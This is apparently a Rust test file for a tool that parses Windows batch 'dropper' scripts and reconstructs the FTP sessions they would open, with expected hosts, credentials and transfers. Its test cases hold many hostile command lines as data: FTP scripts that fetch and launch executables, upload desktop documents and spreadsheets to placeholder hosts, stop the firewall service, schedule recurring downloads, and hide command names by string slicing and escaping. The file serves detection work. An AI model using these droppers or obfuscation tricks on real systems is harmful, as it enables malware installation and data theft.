//! Whole droppers, from the text to the session that the client has with what it is fed.

use crate::base::limits::Limits;
use crate::base::text::Text;
use crate::script::client::{self, world::Unknown};
use crate::script::read;
use crate::script::reading::{Feed, TextReading};
use crate::script::session::Session;
use crate::script::transfer::Mode;
use crate::script::writer::emulation::Alone;
use crate::script::writer::outcome::Origin;

fn reading(text: &str) -> TextReading {
    let origin = Origin { directory: Some("C:\\w"), name: "run" };
    read::read(&Text::from_content(text), origin, &Alone, &Limits::default()).expect(text)
}

/// The first session of each launch that is fed something the text holds.
fn sessions(text: &str) -> Vec<Session> {
    let reading = reading(text);
    let own = Text::from_content(text);
    let run = |(launch, feed): &(_, Feed)| {
        let script = match feed {
            Feed::Written(index) => &reading.written[*index].text,
            Feed::Itself => &own,
            _ => return None,
        };
        client::run(Some(script), launch, &Unknown, &Limits::default()).sessions.into_iter().next()
    };
    reading.launches.iter().filter_map(run).collect()
}

/// `host:port user/password`, then each transfer as `remote=local` with its mode.
fn shown(session: &Session) -> String {
    let login = session.credentials.last();
    let user = login.and_then(|login| login.username.as_deref()).unwrap_or("-");
    let password = login.and_then(|login| login.password.as_ref()).map_or("-", |password| password.reveal());
    let mut out = format!("{}:{} {user}/{password}", session.host.as_deref().unwrap_or("-"), session.port.unwrap_or(0));
    for transfer in &session.transfers {
        let mode = if transfer.mode == Mode::Ascii { "A" } else { "I" };
        let (remote, local) =
            (transfer.remote_path.as_deref().unwrap_or("-"), transfer.local_path.as_deref().unwrap_or("-"));
        out.push_str(&format!(" {remote}={local}:{mode}"));
    }
    out
}

#[test]
fn droppers_and_their_sessions() {
    let cases: [(&str, &[&str]); 26] = [
        // One line; `21>` is text.
        (
            "echo open 192.0.2.110 21>q.txt&echo user eve pw9>>q.txt&echo bin>>q.txt&echo get p.exe>>q.txt&echo bye>>q.txt&ftp -n -v -s:q.txt&del q.txt&start p.exe",
            &["192.0.2.110:21 eve/pw9 p.exe=p.exe:I"],
        ),
        // The blank before `>>` goes over the wire.
        (
            "echo open 192.0.2.111 > q.txt\necho anonymous >> q.txt\necho me@example.net >> q.txt\necho binary >> q.txt\necho get n.exe >> q.txt\necho bye >> q.txt\nftp -s:q.txt",
            &["192.0.2.111:21 anonymous /me@example.net  n.exe=n.exe:I"],
        ),
        // A shell's quotes; answers taken literally.
        (
            "cmd.exe /c \"@echo open ftp.example.net 21>g.txt&@echo USER eve>>g.txt&@echo PASS pw9>>g.txt&@echo binary>>g.txt&@echo GET /p.exe>>g.txt&@echo quit>>g.txt&@ftp -s:g.txt -v\"",
            &["ftp.example.net:21 USER eve/PASS pw9 /p.exe=p.exe:I"],
        ),
        // The user on one line, the password on the next.
        (
            "echo open 192.0.2.112 21> q.txt\necho USER eve>> q.txt\necho pw9>> q.txt\necho bin >> q.txt\necho GET n.exe >> q.txt\necho bye >> q.txt\nftp -v -n -s:q.txt",
            &["192.0.2.112:21 eve/pw9 n.exe=n.exe:I"],
        ),
        // The password is missing: the next command is taken for it.
        (
            "echo open 192.0.2.113>d.txt\necho USER anonymous>>d.txt\necho binary>>d.txt\necho PUT c:\\x\\hosts>>d.txt\necho bye>>d.txt\nftp -v -n -s:d.txt",
            &["192.0.2.113:21 anonymous/binary hosts=c:\\x\\hosts:A"],
        ),
        // A digit after a blank is a handle.
        (
            "echo open 192.0.2.114>y&echo user eve 1>>y&echo pw9>>y&echo get b.exe>>y&echo bye>>y&ftp -n -s:y",
            &["192.0.2.114:21 eve/pw9 b.exe=b.exe:A"],
        ),
        (
            "(echo open 192.0.2.115 2121&echo eve&echo pw9&echo binary&echo get s.dll C:\\P\\s.dll&echo bye)>%TEMP%\\u.txt&ftp -i -s:%TEMP%\\u.txt",
            &["192.0.2.115:2121 eve/pw9 s.dll=C:\\P\\s.dll:I"],
        ),
        (
            ">t.dat echo open 192.0.2.116\n>>t.dat echo eve\n>>t.dat echo p^&9\n>>t.dat echo put \"C:\\U\\my docs\\c d.zip\" l.zip\n>>t.dat echo quit\nftp -s:t.dat",
            &["192.0.2.116:21 eve/p&9 l.zip=C:\\U\\my docs\\c d.zip:A"],
        ),
        // Two empty answers, and a last line without an end.
        (
            "echo open 192.0.2.117>l&echo.>>l&echo.>>l&echo get s.txt>>l&<nul set /p=bye>>l&ftp -s:l",
            &["192.0.2.117:21 / s.txt=s.txt:A"],
        ),
        (
            "set H=192.0.2.118&set F=%TEMP%\\~u.tmp\necho open %H% 8021>%F%\necho user %COMPUTERNAME% y>>%F%\necho lcd %USERPROFILE%\\Desktop>>%F%\necho put a.docx>>%F%\necho bye>>%F%\nftp -n -i -s:%F%",
            &["192.0.2.118:8021 %COMPUTERNAME%/y a.docx=a.docx:A"],
        ),
        (
            "for %%f in (C:\\e\\*.xls) do (echo open 192.0.2.119>%%~nf.ftp&echo u2>>%%~nf.ftp&echo p2>>%%~nf.ftp&echo send \"%%f\">>%%~nf.ftp&echo bye>>%%~nf.ftp&ftp -s:%%~nf.ftp)",
            &["192.0.2.119:21 u2/p2 %f=%f:A"],
        ),
        (
            "cmd /c net stop SharedAccess &echo open host.example.org 21 >> ik &echo user p1 b1 >> ik &echo binary >> ik &echo get u.exe >> ik &echo bye >> ik &ftp -n -v -s:ik &del ik &u.exe &exit",
            &["host.example.org:21 p1/b1 u.exe=u.exe:I"],
        ),
        (
            "echo open 192.0.2.120> g.txt & echo bin>>g.txt & echo get y.exe>>g.txt & echo bye>>g.txt & ftp -A -s:g.txt",
            &["192.0.2.120:21 anonymous/<localuser>@<localhost> y.exe=y.exe:I"],
        ),
        // The batch file is its own script.
        (
            "@ftp -i -s:\"%~f0\"&GOTO:EOF\nopen 192.0.2.131\neve\npw9\n!:--- commands ---\nbin\nget a.csv\nquit",
            &["192.0.2.131:21 eve/pw9 a.csv=a.csv:I"],
        ),
        (
            "goto skip\nbin\nget /pub/b.7z b.7z\nquit\n:skip\nftp -s:%0 -A downloads.example.net",
            &["downloads.example.net:21 anonymous/<localuser>@<localhost> /pub/b.7z=b.7z:I"],
        ),
        // Input by redirection and by pipe.
        ("(echo user eve pw9&echo get a&echo bye)>c\nftp -n 192.0.2.121 < c", &["192.0.2.121:21 eve/pw9 a=a:A"]),
        ("(echo user eve pw9&echo get a&echo bye)|ftp -n 192.0.2.122", &["192.0.2.122:21 eve/pw9 a=a:A"]),
        (
            "schtasks /create /tn U /sc minute /tr \"cmd /c (echo open 192.0.2.123&echo eve&echo pw9&echo get a&echo bye)>z&ftp -s:z\"",
            &["192.0.2.123:21 eve/pw9 a=a:A"],
        ),
        // Names put together from parts.
        (
            "@set a=ec&set b=ho&set c=ft\n%a%%b% open 192.0.2.124>z\n%a%%b% eve>>z\n%a%%b% pw9>>z\n%a%%b% get a>>z\n%a%%b% bye>>z\n%c%p -s:z",
            &["192.0.2.124:21 eve/pw9 a=a:A"],
        ),
        (
            "@set k=ptfohce\n%k:~6,1%%k:~5,1%%k:~4,1%%k:~3,1% open 192.0.2.125>z\necho eve>>z\necho pw9>>z\necho get a>>z\n%k:~2,1%%k:~1,1%%k:~0,1% -s:z",
            &["192.0.2.125:21 eve/pw9 a=a:A"],
        ),
        (
            "cmd /V:ON /C \"set u=z&&echo open 192.0.2.126>!u!&&echo eve>>!u!&&echo pw9>>!u!&&echo get a>>!u!&&f^tp -s:!u!\"",
            &["192.0.2.126:21 eve/pw9 a=a:A"],
        ),
        (
            "for /f \"tokens=1,2\" %%a in (\"192.0.2.127 2121\") do echo open %%a %%b>z\nfor %%l in (eve pw9 bin) do echo %%l>>z\necho get a>>z\nftp -s:z",
            &["192.0.2.127:2121 eve/pw9 a=a:I"],
        ),
        (
            "call :line open 192.0.2.128\ncall :line eve\ncall :line pw9\ncall :line get a\nftp -s:z\nexit /b\n:line\necho %*>>z\nexit /b",
            &["192.0.2.128:21 eve/pw9 a=a:A"],
        ),
        // Either host may be the one.
        (
            "if exist C:\\q (echo open 192.0.2.129>z) else (echo open 192.0.2.130>z)\n(echo eve&echo pw9&echo get a)>>z\nftp -s:z",
            &["192.0.2.129:21 eve/pw9 a=a:A", "192.0.2.130:21 eve/pw9 a=a:A"],
        ),
        // A note: prompts, a fenced script.
        (
            "Do this:\n\n```\n@echo off\nset S=up.txt\nftp -s:%S%\n```\n\nup.txt\n```\nopen ftp_server\neve\npw9\ncd in\nget a\nquit\n```\n",
            &["ftp_server:21 eve/pw9 a=a:A"],
        ),
        (
            "/c echo open IP 21 >> ik &echo user eve pw9 >> ik &echo get s.exe >> ik &echo bye >> ik &ftp -n -v -s:ik &s.exe",
            &["IP:21 eve/pw9 s.exe=s.exe:A"],
        ),
    ];
    let wrong: Vec<String> = cases
        .iter()
        .filter_map(|(text, expected)| {
            let have: Vec<String> = sessions(text).iter().map(shown).collect();
            (have != *expected).then(|| format!("{text}\n  wants {expected:?}\n  has   {have:?}"))
        })
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn what_stayed_as_written_is_listed() {
    let reading = reading(
        "set random=%RANDOM%\n(echo open h.x&echo %USERNAME%&echo put log%random%.txt&echo send \"%1\")>z\nftp -s:z",
    );
    assert_eq!(reading.written[0].unresolved, ["%USERNAME%", "%random%", "%1"]);
}

#[test]
fn ordinary_texts_are_none() {
    let texts = [
        "@echo off\necho Hello\nset PATH=%PATH%;C:\\x\ncall build.bat\nif errorlevel 1 exit /b 1\n",
        "REM build\nfor %%f in (*.c) do cl /c %%f\necho done>log.txt\n",
        "To copy files, start the server and type help.\nIf you like, call me at 12:00.\n",
        "2026-01-02 INFO GET /shop?q=echo+dot HTTP/1.1\n",
        "<p>cmd.exe /c echo hi &gt; x</p>",
        "```\nopen the door\n```\n",
        "schtasks /create /tn x /tr \"notepad.exe\"\nreg add HKCU\\x /v y /d \"z\"\n",
    ];
    for text in texts {
        let origin = Origin { directory: None, name: "x.txt" };
        let reading = read::read(&Text::from_content(text), origin, &Alone, &Limits::default());
        assert!(reading.is_none(), "{text}\n{reading:?}");
    }
}
